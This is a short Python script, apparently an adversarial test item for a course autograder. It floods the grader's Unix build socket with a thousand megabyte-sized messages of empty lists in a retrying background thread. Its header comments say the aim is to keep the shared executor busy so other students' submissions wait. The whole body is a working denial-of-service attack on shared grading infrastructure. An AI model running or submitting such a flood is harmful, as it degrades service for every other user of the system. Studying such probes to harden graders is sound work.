# family = "socket"
# assignment = "lab_1_1"
# boxed_only = true
# tries = "The grader's socket for builds is sent a thousand messages of a megabyte of small empty lists, one connection after the other, from before the first check to the end of the last."
# could_earn = "An executor, in which the whole class runs, that is busy with one student while the programs of others wait."

# %% extra
import os
import socket
import threading
import time

ORDER = b'{"say":"build","count":1000,"path":"ros2_ws","only":[]}\n'
SOURCE = b'{"say":"source","path":"a","data":null,"x":[' + b"[]," * 320_000 + b"[]]}\n"


def flood():
    while True:
        try:
            with socket.socket(socket.AF_UNIX) as connection:
                connection.connect(os.environ["AUTOGRADER_BUILDS"])
                connection.sendall(ORDER)
                for _ in range(1000):
                    connection.sendall(SOURCE)
        except OSError:
            time.sleep(0.001)


threading.Thread(target=flood, daemon=True).start()
time.sleep(6)

# %% extra
time.sleep(7)
